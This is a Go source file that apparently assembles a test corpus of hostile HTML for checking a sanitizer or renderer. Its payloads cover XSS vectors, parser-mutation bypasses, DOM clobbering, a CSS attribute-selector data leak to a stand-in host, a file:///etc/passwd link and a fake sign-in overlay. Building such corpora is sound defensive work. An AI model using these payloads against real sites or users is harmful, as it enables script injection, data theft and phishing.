package hostile

import "strings"

// group is a group of payloads of one kind.
type group struct {
	kind     string
	payloads []string
}

// onEach lists elements with event handlers; %s is replaced by the script.
func onEach(handlers string, elements ...string) []string {
	var out []string
	names := strings.Fields(handlers)
	for i, e := range elements {
		name := names[i%len(names)]
		out = append(out, strings.Replace(e, "%s", name+`="{S}"`, 1))
	}
	return out
}

// schemes are addresses that run something, in the spellings of browsers.
var schemes = []string{
	"javascript:{S}", "JaVaScRiPt:{S}", "java\tscript:{S}", "java\nscript:{S}", " javascript:{S}", "\x01javascript:{S}", "javascript&colon;{S}",
	"&#106;avascript:{S}", "&#x6a;&#x61;vascript:{S}", "javascript://%0a{S}", "javascript:%7b{Q}%7d", "vbscript:msgbox(1)", "data:text/html,<script>{S}</script>",
	"data:text/html;base64,PHNjcmlwdD50b3AucG9zdE1lc3NhZ2UoJ3JhbicsJyonKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{Q}'/>",
	"blob:http://p.payload.example/1", "file:///etc/passwd", "filesystem:http://p.payload.example/temporary/x", "view-source:{U}/", "jar:{U}/!/x", "feed:javascript:{Q}", "livescript:{Q}", "mhtml:{U}/x!y",
}

// inLinks writes each scheme into an element.
func inLinks(elements ...string) []string {
	var out []string
	for i, s := range schemes {
		out = append(out, strings.ReplaceAll(elements[i%len(elements)], "%s", s))
	}
	return out
}

// markup are payloads in HTML.
var markup = []group{
	{"script", []string{
		`<script>{S}</script>`, `<SCRIPT SRC={U}/x.js></SCRIPT>`, `<script type=module>import "{U}/m.js"</script>`, `<script/x>{S}</script>`,
		`<script><!--` + "\n" + `{S}//--></script>`, `<scr<script>ipt>{S}</scr</script>ipt>`, `<script src="data:text/javascript,{Q}"></script>`,
		`<script type="text/ecmascript" language="JScript.Encode">{S}</script>`, `<script async defer nomodule>{S}</script>`, `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{U}/p"]}]}</script>`,
		`<script type=importmap>{"imports":{"a":"{U}/a.js"}}</script>`, "<script\x00>{S}</script>", `<script>{S}`, `<<script>{S}//<</script>`, `<script xlink:href={U}/x.js></script>`,
	}},
	{"event handler", append(onEach("onload onerror onclick onfocus onmouseover ontoggle onanimationstart onbegin onpageshow onscroll onpointerover oncontentvisibilityautostatechange onbeforetoggle onwheel onsecuritypolicyviolation",
		`<img src=x %s>`, `<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= %s>`, `<body %s>`, `<input autofocus %s>`, `<a tabindex=1 autofocus %s>x</a>`, `<details open %s><summary>x</summary></details>`,
		`<div style="animation:x 1s" %s>x</div>`, `<video src=x %s></video>`, `<audio src=x %s></audio>`, `<marquee %s>x</marquee>`, `<div style="content-visibility:auto" %s>x</div>`, `<select autofocus %s></select>`,
		`<textarea autofocus %s></textarea>`, `<keygen autofocus %s>`, `<iframe %s></iframe>`, `<object data=x %s></object>`, `<embed src=x %s>`, `<link rel=stylesheet href=x %s>`, `<style %s>x{}</style>`, `<frameset %s>`,
		`<table background=x %s><tr><td>x</table>`, `<form %s><button>x</form>`, `<button popovertarget=p %s>x</button><div popover id=p>y</div>`, `<dialog open %s>x</dialog>`, `<p style="transition:color 1s;color:red" %s>x`,
		`<font color=red %s>x</font>`, `<isindex type=image src=1 %s>`, `<x contenteditable autofocus %s>x</x>`, `<bgsound src=x %s>`, `<meter %s></meter>`, `<progress %s></progress>`, `<track src=x %s>`, `<source src=x %s>`, `<canvas %s></canvas>`, `<slot %s></slot>`),
		`<img src=x OnErRoR={Q}>`, `<img src=x onerror ={Q}>`, "<img src=x onerror\n=\n\"{Q}\">", "<img/src=x/onerror={Q}>", `<img src=x onerror=&#104;&#105;&#116;(1)>`, "<img src=`x`onerror={Q}>", `<img """><script>{S}</script>">`, `<img src='x' alt='"'onerror={Q} x='>`)},
	{"svg", []string{
		`<svg onload={Q}>`, `<svg><script>{S}</script></svg>`, `<svg><script href="{U}/x.js"/></svg>`, `<svg><script xlink:href="data:,{Q}"/></svg>`, `<svg><animate onbegin="{S}" attributeName=x dur=1s>`,
		`<svg><set attributeName=href to="javascript:{Q}"/><a><text y=20>x</text></a></svg>`, `<svg><a xlink:href="javascript:{Q}"><text y=20>x</text></a></svg>`, `<svg><a href="javascript:{Q}"><rect width=99 height=99 /></a></svg>`,
		`<svg><image href="{U}/i.png" width=9 height=9 /></svg>`, `<svg><image xlink:href="{U}/i.png" /></svg>`, `<svg><use href="{U}/s.svg#x"/></svg>`, `<svg><use xlink:href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{Q}'/></svg>#x"/></svg>`,
		`<svg><feImage href="{U}/f.png"/></svg>`, `<svg><foreignObject><iframe src="javascript:{Q}"></iframe></foreignObject></svg>`, `<svg><foreignObject><body onload={Q}></foreignObject></svg>`, `<svg><style>@import "{U}/c.css";</style></svg>`,
		`<svg><style><img src=x onerror={Q}></style></svg>`, `<svg><title><img src=x onerror={Q}></title></svg>`, `<svg><desc><noscript><img src=x onerror={Q}></noscript></desc></svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{S}</handler></svg>`,
		`<svg><discard onbegin={Q}></svg>`, `<svg><text style="fill:url({U}/p.svg#x)">x</text></svg>`, `<svg><filter id=f><feImage xlink:href="{U}/x"/></filter></svg><p style="filter:url(#f)">x`, `<svg><metadata><script>{S}</script></metadata></svg>`,
		`<svg><a><animate attributeName=href values="javascript:{Q}"/><text y=20>x</text></a></svg>`, `<svg xmlns="http://www.w3.org/2000/svg" xml:base="{U}/"><image href="x"/></svg>`,
	}},
	{"mathml", []string{
		`<math><mi xlink:href="javascript:{Q}">x</mi></math>`, `<math href="javascript:{Q}">x</math>`, `<math><maction actiontype="statusline#{U}" xlink:href="javascript:{Q}">x</maction></math>`, `<math><mglyph src="{U}/g.png" /></math>`,
		`<math><annotation-xml encoding="text/html"><script>{S}</script></annotation-xml></math>`, `<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror={Q}></annotation-xml></math>`, `<math><mtext><script>{S}</script></mtext></math>`,
		`<math><mtext><mglyph><style><img src=x onerror={Q}></style></mglyph></mtext></math>`, `<math><semantics><annotation-xml><svg onload={Q}></annotation-xml></semantics></math>`, `<math><mstyle definitionurl="{U}/d" style="background:url({U}/b)">x</mstyle></math>`,
		`<math><mi style="position:fixed;inset:0">x</mi></math>`, `<math><malignmark><img src=x onerror={Q}></malignmark></math>`,
	}},
	{"mutation", []string{
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={Q}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={Q}>`, `<svg></p><style><a id="</style><img src=1 onerror={Q}>">`,
		`<noscript><p title="</noscript><img src=x onerror={Q}>">`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror={Q}></style></annotation-xml></math>`, `<listing>&lt;img src=x onerror={Q}&gt;</listing>`, `<svg><style>&lt;img src=x onerror={Q}&gt;</style></svg>`,
		`<p><svg><title></p><img src=x onerror={Q}></title></svg>`, `<table><math><mo><tr><style></math><img src=x onerror={Q}>`, `<select><template><img src=x onerror={Q}></template></select>`, `<select><style></select><img src=x onerror={Q}></style>`,
		`<title><a href="</title><img src=x onerror={Q}>">`, `<textarea><a title="</textarea><img src=x onerror={Q}>">`, `<xmp><a title="</xmp><img src=x onerror={Q}>">`, `<iframe><a title="</iframe><img src=x onerror={Q}>">`, `<noembed><a title="</noembed><img src=x onerror={Q}>">`,
		`<noframes><a title="</noframes><img src=x onerror={Q}>">`, `<style><a title="</style><img src=x onerror={Q}>">`, `<!--><img src=x onerror={Q}>-->`, `<!--!><img src=x onerror={Q}>-->`, `<!-- --!><img src=x onerror={Q}> -->`, `<![CDATA[><img src=x onerror={Q}>]]>`,
		`<svg><![CDATA[</svg><img src=x onerror={Q}>]]></svg>`, `<?xml x="><img src=x onerror={Q}>"?>`, `<!DOCTYPE x [<!ENTITY y "><img src=x onerror={Q}>">]>`, `<a href="x"</a><img src=x onerror={Q}//`, "<b a='\x00'><img\x00src=x onerror={Q}>", `<div id="` + strings.Repeat("`", 20) + `"><img alt="` + "``onerror={Q}" + `">`,
		strings.Repeat("<div>", 300) + `<svg><style><a id="</style><img src=x onerror={Q}>">`, strings.Repeat("<b><p>", 60) + `<table><svg></table><img src=x onerror={Q}>`, `<h1><table><caption><svg><desc><td><style></style><img src=x onerror={Q}>`, `<p><ruby><rt><math><mi><table><tr><td></math><img src=x onerror={Q}>`,
	}},
	{"css", []string{
		`<p style="background:url({U}/b.png)">x`, `<p style="background-image:image-set('{U}/s.png' 1x)">x`, `<p style="background:u\72l({U}/e.png)">x`, `<p style="background:/**/url(/**/{U}/c.png)">x`, `<p style="list-style:url({U}/l.png)">x`, `<p style="cursor:url({U}/c.cur),auto">x`,
		`<p style="border-image:url({U}/b.png) 1">x`, `<p style="mask:url({U}/m.svg#a)">x`, `<p style="filter:url({U}/f.svg#a)">x`, `<p style="content:url({U}/c.png)">x`, `<p style="shape-outside:url({U}/s.png);float:left">x`, `<p style="clip-path:url({U}/c.svg#a)">x`, `<p style="--a:url({U}/v.png);background:var(--a)">x`,
		`<style>@import "{U}/i.css";</style>`, `<style>@import url({U}/i.css) screen;</style>`, `<style>@imp\6f rt "{U}/i.css";</style>`, `<style>@font-face{font-family:a;src:url({U}/f.woff)}*{font-family:a}</style>`, `<style>*{background:url({U}/a.png)}</style>`, `<style>p::before{content:url({U}/b.png)}</style>`,
		`<style>@namespace url({U}/);@charset "utf-8";@layer a;@container (width>1px){p{background:url({U}/c)}}</style>`, `<style>input[value^=a]{background:url({U}/leak?a)}</style><input value=abc>`, `<style>html,body{position:fixed;inset:0;z-index:2147483647;background:red}</style>`,
		`<div style="position:fixed;top:0;left:0;width:200vw;height:200vh;z-index:2147483647;background:#fff">Your session has ended. Sign in again.</div>`, `<p style="width:expression({Q})">x`, `<p style="behavior:url({U}/x.htc)">x`, `<p style="-moz-binding:url({U}/x.xml#a)">x`, `<p style="background:url(javascript:{Q})">x`,
		`<style></style><script>{S}</script></style>`, `<style type="text/javascript">{S}</style>`, `<p style="background:url(&quot;{U}/q.png&quot;)">x`, `<p style="background-image:cross-fade(url({U}/a),url({U}/b),50%)">x`, `<p style="background:-webkit-image-set(url({U}/w) 1x)">x`, `<style>a{}` + strings.Repeat(".a .b>c~d+e,", 3000) + `f{color:red}</style>`,
		`<p style='font-family:"}*{background:url({U}/x)}"'>x`, `<p style="x:y;}</style><img src=x onerror={Q}>">x`, `<style>@media screen{@import "{U}/m.css";p{background:url({U}/n)}}</style>`, `<style>@property --x{syntax:"<url>";inherits:true;initial-value:url({U}/p)}</style>`, `<p style="animation:a 1s;offset-path:url({U}/o.svg)">x<style>@keyframes a{to{background:url({U}/k)}}</style>`,
	}},
	{"head", []string{
		`<meta http-equiv=refresh content="0;url={U}/r">`, `<meta http-equiv=refresh content="0;javascript:{Q}">`, `<meta http-equiv=refresh content="0;url=data:text/html,<script>{S}</script>">`, `<META HTTP-EQUIV="REFRESH" CONTENT="0; URL={U}/R">`, `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'">`,
		`<meta http-equiv="Content-Security-Policy" content="report-uri {U}/csp">`, `<meta http-equiv=set-cookie content="a=b">`, `<meta name=referrer content=unsafe-url>`, `<meta charset=utf-7>+ADw-script+AD4-hit(1)+ADw-/script+AD4-`, `<meta http-equiv=Content-Type content="text/html;charset=iso-2022-jp">` + "\x1b(Jx", `<base href="{U}/"><img src=a.png><a href=b>x</a>`,
		`<base href="javascript:/">`, `<base target=_top><a href="{U}/">x</a>`, `<link rel=stylesheet href="{U}/s.css">`, `<link rel=prefetch href="{U}/p">`, `<link rel=dns-prefetch href="//p.payload.example">`, `<link rel=preconnect href="{U}">`, `<link rel=preload as=image href="{U}/p.png">`, `<link rel=modulepreload href="{U}/m.js">`,
		`<link rel=icon href="{U}/i.ico">`, `<link rel=manifest href="{U}/m.json">`, `<link rel=import href="{U}/h.html">`, `<link rel=stylesheet href="data:text/css,@import '{U}/d.css'">`, `<html manifest="{U}/a.appcache">`, `<link rel=prerender href="{U}/q">`, `<meta http-equiv=x-dns-prefetch-control content=on><a href="{U}/">x</a>`,
	}},
	{"form", []string{
		`<form action="{U}/f" id=f><input name=q value=1></form><button form=f>Go</button>`, `<form action="javascript:{Q}"><button autofocus>x</button></form>`, `<button formaction="javascript:{Q}">x</button>`, `<input type=image src="{U}/i.png" formaction="javascript:{Q}">`, `<isindex action="javascript:{Q}" type=submit value=x>`,
		`<form method=dialog><input autofocus onfocus={Q}></form>`, `<form action="{U}/g" target=_top method=post><input type=password name=p></form>`, `<input type=password name=password autocomplete=current-password>`, `<form><input type=file></form>`, `<textarea form=f name=t>x</textarea>`, `<select name=s onchange={Q}><option selected>x</select>`,
		`<object form=f data="{U}/o"></object>`, `<output form=f onforminput={Q}>x</output>`, `<fieldset><legend>Sign in</legend><input><keygen></fieldset>`, `<form action="{U}/h"><input type=submit id=s value="Continue"></form><label for=s>Anywhere you click</label>`, `<button type=submit popovertargetaction=show popovertarget=x formaction={U}/k>x</button><div id=x popover>y</div>`,
		`<button commandfor=d command=show-modal>x</button><dialog id=d>y</dialog>`, `<datalist id=l><option value="{U}"></datalist><input list=l>`,
	}},
	{"remote content", []string{
		`<img src="{U}/a.png">`, `<img src="//p.payload.example/b.png">`, `<img srcset="{U}/c.png 1x, {U}/d.png 2x">`, `<picture><source srcset="{U}/e.png"><img src=x></picture>`, `<img src=x lowsrc="{U}/f.png" dynsrc="{U}/g.avi">`, `<body background="{U}/h.png">`, `<table background="{U}/i.png"><tr><td background="{U}/j.png">x</table>`,
		`<video src="{U}/k.mp4" poster="{U}/l.png" autoplay></video>`, `<audio src="{U}/m.mp3" autoplay></audio>`, `<video><source src="{U}/n.mp4"><track src="{U}/o.vtt" default></video>`, `<input type=image src="{U}/p.png">`, `<bgsound src="{U}/q.mid">`, `<img src="{U}/r.gif" width=1 height=1>`, `<img src="{U}/s.gif" style="display:none">`,
		`<a ping="{U}/t" href="#">x</a>`, `<blockquote cite="{U}/u">x</blockquote>`, `<img longdesc="{U}/v" usemap="#m"><map name=m><area shape=default href="javascript:{Q}"></map>`, `<img src="http:\\p.payload.example\w.png">`, "<img src=\"ht\ntp://p.payload.example/x.png\">", `<img src="http:&#47;&#47;p.payload.example/y.png">`, `<image src="{U}/z.png">`,
		`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{U}/1.png'/></svg>">`, `<img src="data:image/png;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=">`, `<img src="cid:missing">`, `<img src="blob:null/1">`, `<img src="ftp://p.payload.example/2.png">`, `<img src="\\p.payload.example\share\3.png">`, `<img src="file://p.payload.example/share/4.png">`, `<img crossorigin src="{U}/5.png" loading=eager fetchpriority=high>`, `<img srcset=",{U}/6.png 1x,,{U}/7.png" sizes="(min-width:1px) 100vw">`,
	}},
	{"link", inLinks(`<a href="%s">click</a>`, `<a href='%s' target=_top>click</a>`, `<area href="%s" shape=default>`, `<form action="%s"><button>x</button></form>`, `<a xlink:href="%s">x</a>`)},
	{"frame", []string{
		`<iframe src="{U}/a"></iframe>`, `<iframe src="javascript:{Q}"></iframe>`, `<iframe srcdoc="<script>{S}</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror={Q}&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`, `<iframe src="data:text/html,<script>{S}</script>"></iframe>`, `<frameset><frame src="{U}/b"></frameset>`,
		`<object data="{U}/c" type=text/html></object>`, `<object data="data:text/html,<script>{S}</script>"></object>`, `<object classid="clsid:1" codebase="{U}/d"><param name=movie value="{U}/e.swf"></object>`, `<embed src="{U}/f.swf" allowscriptaccess=always>`, `<embed src="javascript:{Q}" type=text/html>`, `<applet code=x archive="{U}/g.jar"></applet>`,
		`<portal src="{U}/h"></portal>`, `<fencedframe src="{U}/i"></fencedframe>`, `<iframe allow="camera *; clipboard-read *" src="{U}/j"></iframe>`, `<layer src="{U}/k"></layer><ilayer src="{U}/l">`, `<iframe src="about:blank" name="<script>{S}</script>"></iframe>`, `<webview src="{U}/m"></webview><controlledframe src="{U}/n">`,
	}},
	{"target", []string{
		`<a href="{U}/" target=_top>x</a>`, `<a href="{U}/" target=_parent>x</a>`, `<a href="{U}/" target=_blank rel=opener>x</a>`, `<a href="#/overview" target=_top>x</a>`, `<a href="about:srcdoc" target=_self>x</a>`, `<a href="?shared=1" target=_top>x</a>`, `<a href="{U}/d" download=x.exe>x</a>`, `<a href="spoolscope.html" attributionsrc="{U}/s">x</a>`,
	}},
	{"namespace", []string{
		`<template><script>{S}</script></template>`, `<template shadowrootmode=open><img src=x onerror={Q}></template>`, `<div><template shadowrootmode=open><style>:host{position:fixed}</style><script>{S}</script></template></div>`, `<noscript><img src=x onerror={Q}></noscript>`, `<noscript><style></noscript><img src=x onerror={Q}>`, `<plaintext><script>{S}</script>`,
		`<xmp><script>{S}</script></xmp>`, `<listing><script>{S}</script></listing>`, `<comment><img src=x onerror={Q}></comment>`, `<xml><i><b>&lt;img src=x onerror={Q}&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">{S}</x:script>`, `<html xmlns:v="urn:schemas-microsoft-com:vml"><v:frame src="{U}/v"/>`,
		`<!--[if gte IE 4]><script>{S}</script><![endif]-->`, `<![if !x]><img src=x onerror={Q}><![endif]>`, `<custom-element onload={Q} is=x>x</custom-element>`, `<div is="x-y" onclick={Q}>x</div>`, `<slot name=x onslotchange={Q}></slot>`, `<svg><p><style><g title="</style><img src=x onerror={Q}>">`, `<a><svg><template><img src=x onerror={Q}>`, `<annotation-xml><font color=red></annotation-xml><img src=x onerror={Q}>`,
		`<ſcript>{S}</ſcript>`, `<ѕcript>{S}</ѕcript>`, `<div data-mail="1" data-watch data-grip data-height="9999" data-top="99">x</div>`, `<div data-link=1 data-image=1 data-file="app.wasm.gz">x</div>`,
	}},
	{"clobbering", []string{
		`<form id=spoolscope><input name=mail></form>`, `<img name=getElementById src=x>`, `<a id=document href="{U}/">x</a>`, `<form name=body><input name=firstChild></form>`, `<form><input name=attributes><input name=parentNode></form>`, `<form><input name=nodeName><input name=nodeType></form>`, `<form onsubmit={Q}><input name=getAttribute><input name=removeAttribute><input name=setAttribute></form>`,
		`<form><input name=childNodes><input name=innerHTML><input name=ownerDocument></form>`, `<img id=DOMPurify src=x>`, `<iframe name=top></iframe>`, `<img name=trustedTypes src=x>`, `<div id=main>x</div>`, `<div id=app-wasm-loader>x</div>`, `<div id=message-title>x</div>`, `<input id=platform-files type=file>`, `<a id=defaultView><a id=defaultView name=location href="javascript:{Q}">`,
		`<form id=x tabindex=0 onfocus={Q}><input id=attributes>`, `<object id=currentScript></object><embed name=scripts>`, `<div id=__proto__><a id=constructor>x</a></div>`, `<form id=f><output name=hasAttribute><output name=content></form>`,
	}},
	{"size", []string{
		strings.Repeat("<b>", 390) + "x", strings.Repeat("<div>", 399) + "x", strings.Repeat("<p>x", 20_000), strings.Repeat(`<a href="{U}/">x</a>`, 3000), strings.Repeat(`<img src="{U}/a.png">`, 3000), "<p>" + strings.Repeat("W", 200_000), strings.Repeat("<table><tr><td>", 100) + "x",
		`<p style="font-size:99999px;width:1e9px;height:1e9px;margin:-1e9px">x`, "<style>" + strings.Repeat("p{color:red}", 6000) + "</style><p>x", "<p " + strings.Repeat("a ", 300) + ">x", strings.Repeat("<div>", 500) + "x", func() string {
			var b strings.Builder
			for i := range 1500 {
				b.WriteString("<font size=" + strings.Repeat("+", i%50+1) + " face=a" + strings.Repeat("b", i/50) + ">")
			}
			return b.String() + strings.Repeat("<p>x", 3000)
		}(),
	}},
}
